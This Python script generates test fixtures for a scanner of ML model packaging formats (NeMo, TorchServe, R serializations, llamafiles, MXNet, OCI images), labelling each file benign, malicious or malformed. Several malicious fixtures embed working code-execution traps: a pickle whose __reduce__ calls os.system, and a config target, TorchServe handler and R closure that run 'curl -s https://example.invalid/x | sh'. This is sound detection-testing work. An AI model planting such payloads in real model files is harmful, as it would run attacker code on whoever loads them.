#!/usr/bin/env python3
"""Writes the packaging-format fixtures: NeMo archives (fixtures/nemo/), TorchServe .mar
(fixtures/torchserve/), R serializations (fixtures/rds/, written field by field as R's serialize.c
does, since R is not installed), llamafiles (fixtures/llamafile/, reusing the GGUF fixtures of
gen_llm.py, so run after it) MXNet symbol graphs and .params (fixtures/mxnet/), and container images as OCI layouts and
docker-save tars (fixtures/oci/).

Needs Debian's python3-torch for the PyTorch checkpoints inside the archives. Every output is
deterministic (fixed times, no user names), so a regeneration that changes bytes is a real change.
The file name says the verdict FixtureCorpusTest expects: benign-*, malicious-*, malformed-*;
expected-rules.json lists the rule ids each fixture must produce.
"""
import gzip
import hashlib
import io
import lzma
import json
import struct
import tarfile
import zipfile
from pathlib import Path

import torch

ROOT = Path(__file__).resolve().parents[1] / "resources" / "fixtures"
MTIME = 1767225600  # 2026-01-01T00:00:00Z


def checkpoint():
    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save({"encoder.weight": torch.randn(4, 4), "encoder.bias": torch.zeros(4)}, buf)
    return buf.getvalue()


class Exec:
    """Pickles as a call of os.system, as a booby-trapped checkpoint does."""

    def __reduce__(self):
        import os
        return (os.system, ("id",))


def evil_checkpoint():
    buf = io.BytesIO()
    torch.save({"encoder.weight": torch.zeros(2), "trap": Exec()}, buf)
    return buf.getvalue()


def tar(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = MTIME
            info.uname = info.gname = ""
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


class Folder:
    def __init__(self, name):
        self.out = ROOT / name
        self.out.mkdir(parents=True, exist_ok=True)
        self.expected = {}

    def write(self, name, data, rules=()):
        (self.out / name).write_bytes(data)
        if rules:
            self.expected[name] = sorted(rules)

    def finish(self):
        (self.out / "expected-rules.json").write_text(
            json.dumps(self.expected, indent=2, sort_keys=True) + "\n")


NEMO_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.EncDecCTCModel
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  normalize: per_feature
  window_size: 0.025
encoder:
  _target_: nemo.collections.asr.modules.ConvASREncoder
  feat_in: 64
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 28
optim:
  name: adamw
  lr: 0.001
"""


def nemo():
    f = Folder("nemo")
    weights = checkpoint()
    f.write("benign-asr.nemo", tar([("./model_config.yaml", NEMO_CONFIG.encode()),
                                    ("./model_weights.ckpt", weights)]))
    f.write("benign-asr-gzipped.nemo", gzip.compress(
        tar([("./model_config.yaml", NEMO_CONFIG.encode()), ("./model_weights.ckpt", weights)]),
        mtime=0))
    evil = NEMO_CONFIG.replace(
        "decoder:\n",
        "callback:\n  _target_: os.system\n  _args_: ['curl -s https://example.invalid/x | sh']\n"
        "decoder:\n")
    f.write("malicious-target-os-system.nemo",
            tar([("./model_config.yaml", evil.encode()), ("./model_weights.ckpt", weights)]),
            ["NEMO-001"])
    f.write("malicious-target-gzipped.nemo", gzip.compress(
        tar([("./model_config.yaml", evil.encode()), ("./model_weights.ckpt", weights)]),
        mtime=0), ["NEMO-001"])
    custom = NEMO_CONFIG.replace("nemo.collections.asr.modules.ConvASRDecoder",
                                 "my_plugins.decoders.FancyDecoder")
    # An unknown module is only MEDIUM; the booby-trapped checkpoint makes the verdict.
    f.write("malicious-pickle-checkpoint.nemo",
            tar([("./model_config.yaml", custom.encode()),
                 ("./model_weights.ckpt", evil_checkpoint())]),
            ["NEMO-002", "PKL-001"])
    whole = tar([("./model_config.yaml", NEMO_CONFIG.encode()), ("./model_weights.ckpt", weights)])
    f.write("malformed-truncated.nemo", whole[: 512 + 1024 + 512 + 300])
    f.finish()


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def manifest(**model):
    m = {"modelName": "resnet", "modelVersion": "1.0", **model}
    return json.dumps({"createdOn": "01/01/2026 00:00:00", "runtime": "python", "model": m,
                       "archiverVersion": "0.12.0"}, indent=2).encode()


SAFE_HANDLER = b"""from ts.torch_handler.image_classifier import ImageClassifier


class Handler(ImageClassifier):
    topk = 3

    def postprocess(self, data):
        return [{"labels": row.argmax().item()} for row in data]
"""

EVIL_HANDLER = b"""import os
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def initialize(self, context):
        os.system("curl -s https://example.invalid/x | sh")
        super().initialize(context)
"""


def torchserve():
    f = Folder("torchserve")
    weights = checkpoint()
    f.write("benign-builtin-handler.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt")),
        ("model.pt", weights)]))
    f.write("malicious-handler-os-system.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="handler.py", serializedFile="model.pt")),
        ("model.pt", weights), ("handler.py", EVIL_HANDLER)]), ["MAR-001", "PY-002"])
    f.write("malicious-requirements-extra-index.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="custom_handler.py:handle",
                                           serializedFile="model.pt",
                                           requirementsFile="requirements.txt")),
        ("model.pt", weights), ("custom_handler.py", SAFE_HANDLER),
        ("requirements.txt", b"numpy==1.26.4\n--extra-index-url https://pypi.example.invalid/simple\n"
                             b"resnet-utils==0.1\n")]), ["MAR-001", "MAR-002", "MAR-003"])
    f.write("malicious-pickle-model.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt")),
        ("model.pt", evil_checkpoint())]), ["PKL-001"])
    f.write("malformed-manifest.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", b'{"model": {"handler": "image_classifier", '),
        ("model.pt", weights)]), ["MAR-004"])
    f.write("malformed-missing-model.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt"))]),
        ["MAR-004"])
    f.finish()


class RWriter:
    """R serialization format 3, XDR, as saveRDS writes it (before compression)."""

    def __init__(self):
        self.buf = bytearray(b"X\n")
        self.refs = {}
        self.i(3)
        self.i(0x040301)  # written by R 4.3.1
        self.i(0x030500)  # readable from R 3.5.0
        self.i(5)
        self.buf += b"UTF-8"

    def i(self, v):
        self.buf += struct.pack(">i", v)
        return self

    def flags(self, t, obj=False, attr=False, tag=False, levels=0):
        return self.i(t | (obj << 8) | (attr << 9) | (tag << 10) | (levels << 12))

    def nil(self):
        return self.i(254)

    def chars(self, s):
        b = s.encode()
        self.flags(9, levels=64).i(len(b))
        self.buf += b
        return self

    def sym(self, name):
        if name in self.refs:
            return self.i((self.refs[name] << 8) | 255)
        self.i(1).chars(name)
        self.refs[name] = len(self.refs) + 1
        return self

    def strs(self, *values, attrs=None):
        self.flags(16, attr=attrs is not None).i(len(values))
        for v in values:
            self.chars(v)
        return self.attrs(attrs)

    def reals(self, *values, attrs=None):
        self.flags(14, attr=attrs is not None).i(len(values))
        for v in values:
            self.buf += struct.pack(">d", v)
        return self.attrs(attrs)

    def ints(self, *values):
        self.flags(13).i(len(values))
        for v in values:
            self.i(v)
        return self

    def attrs(self, attrs):
        if attrs is not None:
            self.pairlist(attrs)
        return self

    def pairlist(self, items, t=2):
        """items: (tag or None, writer callback) pairs."""
        for tag, value in items:
            self.flags(t, tag=tag is not None)
            if tag is not None:
                self.sym(tag)
            value()
        return self.nil()

    def vlist(self, names, values, cls=None, extra=()):
        attrs = [("names", lambda: self.strs(*names))] + list(extra)
        if cls:
            attrs.append(("class", lambda: self.strs(cls)))
        self.flags(19, obj=cls is not None, attr=True).i(len(values))
        for v in values:
            v()
        return self.attrs(attrs)

    def call(self, fn, *args):
        """A call fn(args...): LANGSXP whose CAR is the symbol, CDR the argument pairlist."""
        self.flags(6)
        self.sym(fn)
        return self.pairlist([(None, a) for a in args])

    def closure(self, formals, body):
        self.flags(3, tag=True)
        self.i(253)  # environment: the global one
        self.pairlist([(f, lambda: self.i(251)) for f in formals])  # missing defaults
        return body()


def data_frame(w):
    w.vlist(["x", "y"], [lambda: w.reals(1.5, 2.5, 3.5), lambda: w.strs("a", "b", "c")],
            cls="data.frame", extra=[("row.names", lambda: w.ints(-2147483648, -3))])


def rds():
    f = Folder("rds")
    w = RWriter()
    data_frame(w)
    f.write("benign-data-frame.rds", gzip.compress(bytes(w.buf), mtime=0))
    w = RWriter()
    # A fitted-model-like list: coefficients and the formula y ~ x (a call object, not code to fear).
    formula = lambda: (w.flags(6, obj=True, attr=True), w.pairlist(
        [("class", lambda: w.strs("formula")), (".Environment", lambda: w.i(253))]),
        w.sym("~"), w.pairlist([(None, lambda: w.sym("y")), (None, lambda: w.sym("x"))]))
    w.vlist(["coefficients", "formula"],
            [lambda: w.reals(0.5, 2.0, attrs=[("names", lambda: w.strs("(Intercept)", "x"))]),
             formula], cls="lm")
    f.write("benign-lm-formula.rds", lzma.compress(bytes(w.buf), format=lzma.FORMAT_XZ))
    w = RWriter()
    body = lambda: w.call("{", lambda: w.call("system", lambda: w.strs("curl -s https://example.invalid/x | sh")))
    w.vlist(["weights", "predict"], [lambda: w.reals(0.1, 0.2), lambda: w.closure(["newdata"], body)],
            cls="model")
    f.write("malicious-closure-system.rds", gzip.compress(bytes(w.buf), mtime=0), ["RDS-001", "RDS-002"])
    w = RWriter()
    w.buf = bytearray(b"RDX3\n") + w.buf
    # save(m, file=...): a pairlist of variables; m is a promise that evaluates eval(parse(text=...)).
    promise = lambda: (w.flags(5, tag=True), w.i(253), w.i(252),
                       w.call("eval", lambda: w.call("parse", lambda: w.strs("system('id')"))))
    w.pairlist([("m", promise)])
    f.write("malicious-promise-eval.RData", gzip.compress(bytes(w.buf), mtime=0), ["RDS-001", "RDS-002"])
    w = RWriter()
    data_frame(w)
    f.write("malformed-truncated.rds", bytes(w.buf)[:60], ["CORE-001"])
    w = RWriter()
    w.flags(14).i(0x7FFFFFFF)
    w.buf += bytes(16)
    f.write("malformed-huge-vector.rds", bytes(w.buf), ["CORE-001"])
    f.finish()


# The start of a real llamafile: an APE header that is at once an MZ stub and a shell script.
APE_STUB = (b"MZqFpD='\n\n\x00\x10\x00\xf8\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
            + b"\x00" * 48 + b"'\n#'\"\nexec \"$0\" \"$@\"\n" + b"\x90" * 400)


def llamafile(gguf, args):
    buf = io.BytesIO()
    buf.write(APE_STUB)
    with zipfile.ZipFile(buf, "a") as z:
        for name, data, method in ((".args", args, zipfile.ZIP_DEFLATED),
                                   ("model.gguf", gguf, zipfile.ZIP_STORED)):
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = method
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def llamafiles():
    f = Folder("llamafile")
    gguf = ROOT / "gguf"
    args = b"-m\nmodel.gguf\n--ctx-size\n4096\n...\n"
    f.write("malicious-executable.llamafile",
            llamafile((gguf / "benign-llama3-chat.gguf").read_bytes(), args), ["LLAMAFILE-001"])
    f.write("malicious-ssti-template.llamafile",
            llamafile((gguf / "malicious-ssti-cycler-globals.gguf").read_bytes(), args),
            ["LLAMAFILE-001", "TPL-001"])
    f.write("malicious-args-listen-all.llamafile",
            llamafile((gguf / "benign-llama3-chat.gguf").read_bytes(),
                      b"-m\nmodel.gguf\n--host\n0.0.0.0\n--port\n8080\n"),
            ["LLAMAFILE-001", "LLAMAFILE-002"])
    f.write("malformed-truncated-gguf.llamafile",
            llamafile((gguf / "malformed-truncated.gguf").read_bytes(), args),
            ["GGUF-002", "LLAMAFILE-001"])
    f.finish()


def symbol(custom=False, bad_input=False):
    nodes = [{"op": "null", "name": "data", "inputs": []},
             {"op": "null", "name": "fc1_weight", "attrs": {"num_hidden": "4"}, "inputs": []},
             {"op": "FullyConnected", "name": "fc1", "attrs": {"num_hidden": "4"},
              "inputs": [[0, 0, 0], [1, 0, 0]]}]
    if custom:
        nodes.append({"op": "Custom", "name": "postprocess",
                      "attrs": {"op_type": "exfil_softmax"}, "inputs": [[2, 0, 0]]})
    else:
        nodes.append({"op": "softmax", "name": "out", "inputs": [[2, 0, 0]]})
    if bad_input:
        nodes[2]["inputs"].append([7, 0, 0])
    return json.dumps({"nodes": nodes, "arg_nodes": [0, 1], "node_row_ptr": [0, 1, 2, 3, 4],
                       "heads": [[3, 0, 0]], "attrs": {"mxnet_version": ["int", 10901]}},
                      indent=2).encode()


def ndarray(shape, values):
    out = struct.pack("<Iii", 0xF993FAC9, 0, len(shape)) + struct.pack(f"<{len(shape)}q", *shape)
    out += struct.pack("<iii", 1, 0, 0)  # cpu(0), float32
    return out + struct.pack(f"<{len(values)}f", *values)


def params(arrays, names, count=None):
    out = struct.pack("<QQQ", 0x112, 0, len(arrays) if count is None else count)
    out += b"".join(arrays)
    out += struct.pack("<Q", len(names))
    for n in names:
        out += struct.pack("<Q", len(n)) + n.encode()
    return out


def mxnet():
    f = Folder("mxnet")
    f.write("benign-mlp-symbol.json", symbol())
    # MEDIUM only (the verdict stays PASS), so not a malicious-* fixture: MxnetScannerTest reads it.
    f.write("custom-op-symbol.json", symbol(custom=True), ["MX-001"])
    f.write("malformed-dangling-input-symbol.json", symbol(bad_input=True), ["CORE-001"])
    weights = [ndarray([4, 4], [0.25] * 16), ndarray([4], [0.0] * 4)]
    f.write("benign-mlp-0000.params", params(weights, ["arg:fc1_weight", "arg:fc1_bias"]))
    f.write("malformed-lying-count-0000.params",
            params(weights, ["arg:fc1_weight", "arg:fc1_bias"], count=1 << 40), ["CORE-001"])
    big = struct.pack("<Iii", 0xF993FAC9, 0, 2) + struct.pack("<2q", 1 << 20, 1 << 20)
    big += struct.pack("<iii", 1, 0, 0)
    f.write("malformed-huge-array-0000.params", params([big], ["arg:w"]), ["CORE-001"])
    f.finish()


def sha(data):
    return hashlib.sha256(data).hexdigest()


def oci_layout(layer, tamper=False):
    config = json.dumps({"architecture": "amd64", "os": "linux",
                         "rootfs": {"type": "layers", "diff_ids": ["sha256:" + sha(layer)]}}).encode()
    layer_gz = gzip.compress(layer, mtime=0)
    manifest = json.dumps({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                   "digest": "sha256:" + sha(config), "size": len(config)},
        "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                    "digest": "sha256:" + sha(layer_gz), "size": len(layer_gz)}]}).encode()
    index = json.dumps({"schemaVersion": 2, "manifests": [{
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "digest": "sha256:" + sha(manifest), "size": len(manifest)}]}).encode()
    layer_name = sha(layer_gz)
    if tamper:
        layer_gz = gzip.compress(layer + b"\0" * 512, mtime=0)
    return tar([("oci-layout", b'{"imageLayoutVersion": "1.0.0"}'), ("index.json", index),
                ("blobs/sha256/" + sha(manifest), manifest), ("blobs/sha256/" + sha(config), config),
                ("blobs/sha256/" + layer_name, layer_gz)])


def oci():
    f = Folder("oci")
    # Over 64 KiB of text on each side of the checkpoint: the pickle and zip sniffers of the
    # registry look at the first and last 64 KiB and would claim the whole layer otherwise.
    vocab = "".join(f"token{i}\n" for i in range(9000)).encode()
    merges = "".join(f"t{i} o{i}\n" for i in range(9000)).encode()
    model_layer = tar([("models/resnet/vocab.txt", vocab),
                       ("models/resnet/model.pt", checkpoint()),
                       ("models/resnet/merges.txt", merges),
                       ("models/resnet/config.json", b'{"model_type": "resnet"}\n')])
    f.write("benign-model-image.tar", oci_layout(model_layer))
    evil_layer = tar([("models/resnet/model.pt", evil_checkpoint())])
    f.write("malicious-pickle-in-layer.tar", oci_layout(evil_layer), ["PKL-001"])
    f.write("malicious-tampered-layer.tar", oci_layout(model_layer, tamper=True), ["OCI-001"])
    config = json.dumps({"architecture": "amd64", "os": "linux"}).encode()
    docker = tar([("manifest.json", json.dumps([{"Config": sha(config) + ".json",
                                                  "RepoTags": ["model:latest"],
                                                  "Layers": ["abc123/layer.tar"]}]).encode()),
                  (sha(config) + ".json", config), ("abc123/layer.tar", evil_layer)])
    f.write("malicious-docker-save.tar", docker, ["PKL-001"])
    whole = oci_layout(model_layer)
    f.write("malformed-truncated-image.tar", whole[: len(whole) - 5000], ["CORE-001"])
    f.finish()


if __name__ == "__main__":
    nemo()
    torchserve()
    rds()
    llamafiles()
    mxnet()
    oci()
